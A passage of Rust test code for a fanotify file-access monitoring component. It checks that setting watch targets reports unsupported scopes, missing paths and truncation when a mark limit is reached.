    driver.join().unwrap();
    let totals = lock(&tier).totals();
    assert_eq!(totals.own, 1, "{totals:?}");
    assert_eq!(totals.denied, 0, "{totals:?}");
}

#[test]
fn reports_say_what_could_not_be_marked() {
    require_root!();
    let dir = scratch();
    let d = dir.path();
    write(&d.join("f"), "x", 0o644);
    for i in 0..10 {
        write(&d.join(format!("big/{i}")), "x", 0o644);
    }
    let mut tier = FanotifyTier::new(TierOptions {
        max_marks: 4,
        ..TierOptions::default()
    })
    .unwrap();
    let r = tier
        .set_targets(&[
            Target::new("relative/path", Scope::File, AccessSet::OPEN),
            Target::new(d.join("nope/nope/key"), Scope::File, AccessSet::OPEN),
            Target::new(d, Scope::File, AccessSet::OPEN),
            Target::new(d.join("f"), Scope::Prefix, AccessSet::OPEN),
            Target::new(d.join("f"), Scope::ExecFilesystem, AccessSet::BOTH),
            Target::new(d.join("big"), Scope::Prefix, AccessSet::OPEN),
        ])
        .unwrap();
    let o: Vec<&Outcome> = r.targets.iter().map(|t| &t.outcome).collect();
    assert!(matches!(o[0], Outcome::Unsupported(_)), "{o:?}");
    assert_eq!(o[1], &Outcome::Missing);
    assert!(matches!(o[2], Outcome::Unsupported(_)), "{o:?}");
    assert!(matches!(o[3], Outcome::Unsupported(_)), "{o:?}");
    assert!(matches!(o[4], Outcome::Unsupported(_)), "{o:?}");
    assert!(r.targets[5].truncated, "{r:?}");
    assert_eq!(r.marks, 4);
    assert!(tier.exec_supported() && tier.reports_tid());
}
